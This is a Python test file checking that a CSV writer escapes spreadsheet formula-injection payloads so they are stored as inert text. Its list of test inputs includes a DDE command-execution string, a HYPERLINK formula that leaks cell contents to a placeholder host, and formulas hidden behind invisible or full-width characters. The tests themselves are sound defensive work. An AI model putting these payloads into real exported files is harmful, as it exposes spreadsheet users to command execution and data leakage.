"""CSV formula injection: foundation.csv_safety writes cells a spreadsheet reads as text."""
from __future__ import annotations

import csv
import io

import pytest

from foundation import csv_safety

ATTACKS = [
    "=cmd|' /C calc'!A0",  # the PROLIFIC_PID
    "@SUM(1+1)",  # the STUDY_ID
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
    "+1+2",
    "-2+3",
    "-=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "\tplain after a tab",
    "|calc",
    "%0A=1",
    "=1\n=2",
]


def _written(rows, **kwargs) -> str:
    buffer = io.StringIO()
    csv_safety.writer(buffer, **kwargs).writerows(rows)
    return buffer.getvalue()


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_starters_are_neutralised(attack):
    [[cell]] = _read(_written([[attack]]))
    assert cell.startswith("'"), cell
    assert cell[1:].replace("\\|", "|") == attack  # the text is kept, only made inert


@pytest.mark.parametrize("value, expected", [
    ("plain text", "plain text"),
    ("a=b+c", "a=b+c"),  # only the first character matters
    ("", ""),
    (None, ""),
    (42, "42"),
    (-3, "-3"),
    (-1.5, "-1.5"),
    ("-1.5", "-1.5"),  # a negative number stays a number
    ("1,234.5", "1,234.5"),
    ("多 = 少", "多 = 少"),
])
def test_harmless_cells_are_unchanged(value, expected):
    [[cell]] = _read(_written([[value]]))
    assert cell == expected


def test_every_row_and_quoting_still_round_trip():
    rows = [["id", "text"], [1, 'he said "=no", then, left\nthe room'], [2, "@home"]]
    assert _read(_written(rows)) == [["id", "text"], ["1", 'he said "=no", then, left\nthe room'], ["2", "'@home"]]


def test_writerow_returns_what_the_file_returned_for_streaming_exports():
    class Echo:
        def write(self, value):
            return value

    line = csv_safety.writer(Echo()).writerow(["=1+1", "ok"])
    assert line == "'=1+1,ok\r\n"


def test_dict_writer_neutralises_header_and_cells():
    buffer = io.StringIO()
    out = csv_safety.DictWriter(buffer, fieldnames=["participant", "=bad header"], restval="")
    out.writeheader()
    out.writerow({"participant": "=cmd|' /C calc'!A0"})
    out.writerows([{"participant": "+1", "=bad header": "-x"}])
    assert _read(buffer.getvalue()) == [["participant", "'=bad header"], ["'=cmd\\|' /C calc'!A0", ""],
                                        ["'+1", "'-x"]]


def test_dialect_and_format_parameters_pass_through():
    text = _written([["=a", "b"]], delimiter="\t", lineterminator="\n")
    assert text == "'=a\tb\n"


def test_safe_cell_matches_the_writer():
    for value in [*ATTACKS, "plain", "-1.5", None]:
        [[cell]] = _read(_written([[value]]))
        assert csv_safety.safe_cell(value) == cell


def test_no_written_cell_starts_with_a_formula_character():
    starters = "=+-@\t\r\n|%"
    rows = [[c + "1+1" for c in starters], [c + "A1" for c in starters]]
    for row in _read(_written(rows)):
        assert not [cell for cell in row if cell[:1] in starters]


def test_an_object_written_as_its_text_is_neutralised_too():
    class Lazy:  # e.g. a lazy translation: written as str(value)
        def __init__(self, text):
            self.text = text

        def __str__(self):
            return self.text

    assert _read(_written([[Lazy("\t=1"), Lazy("=2"), Lazy("plain")]])) == [["'\t=1", "'=2", "plain"]]


# ---- every cell can be read back, and no cell starts a formula even after the spaces an import trims

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_STARTS = "=+-@|%'\\\t\r\n \xa0\u3000\ufeff\u200b\u2060\x0b\x0c\u200e\u200f\u202e\u2066\u061c\u00ad\u180e＝＋－＠0123456789.,"
_CELL_TEXT = st.text(alphabet=st.one_of(st.sampled_from(_STARTS), st.characters(codec="utf-8")), max_size=12)
_NUMBER_TEXT = r"^-?[0-9,\.]+$"  # defusedcsv's: a number stays a number (a spreadsheet reads it as one)


@settings(max_examples=2000, deadline=None)
@given(_CELL_TEXT)
def test_every_value_is_read_back_exactly_and_no_cell_starts_a_formula(value):
    import re

    [[cell]] = _read(_written([[value]])) or [[""]]
    assert csv_safety.unescape_cell(cell) == value
    assert csv_safety.safe_cell(value) == cell
    # What a spreadsheet that trims spaces sees first is never a formula starter, unless the cell is a number.
    trimmed = re.sub(f"^[{csv_safety.INVISIBLE}]+", "", cell)
    if trimmed[:1] in ("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠"):
        assert re.match(_NUMBER_TEXT, cell), repr(cell)


@pytest.mark.parametrize("first, second", [("=1|2", "'=1\\|2"), ("-x", "'-x"), ("'", "''"), ("|a", "\\|a")])
def test_values_that_look_escaped_stay_distinct_from_escaped_ones(first, second):
    """The review's collision: a participant id that already looked escaped was written as the escaped form of
    another (two participants, one cell)."""
    assert csv_safety.safe_cell(first) != csv_safety.safe_cell(second)


@pytest.mark.parametrize("value", [" =HYPERLINK(\"http://e\")", "\xa0=1", "\u3000=1", "\x0b=1", "\x0c=1",
                                   "\ufeff=1+1", "＝1+1", " ＋1", "\u200b@x", "\u200e=1+1", "\u200f=1", "\u202e@x",
                                   "\u2066=1", "\u061c-1+x", "\u00ad=1", "\u180e+1", "\u200e\u200f =1"])
def test_a_formula_after_whitespace_or_in_full_width_is_neutralised(value):
    assert csv_safety.safe_cell(value) == "'" + value
